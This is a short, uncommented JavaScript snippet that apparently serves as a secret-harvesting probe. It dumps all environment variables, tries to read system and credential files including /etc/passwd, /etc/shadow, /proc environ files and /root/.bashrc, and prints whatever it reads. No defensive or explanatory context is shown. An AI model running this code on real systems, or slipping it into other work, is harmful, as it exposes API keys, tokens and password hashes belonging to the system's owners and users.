const found = [JSON.stringify(typeof process === "object" ? process.env : {})];
for (const path of [
  "/etc/passwd",
  "/etc/shadow",
  "/proc/1/environ",
  "/proc/self/environ",
  "/root/.bashrc",
  "/home",
]) {
  try {
    found.push(String(require("fs").readFileSync(path)));
  } catch {}
}
console.log(found.join(" "));
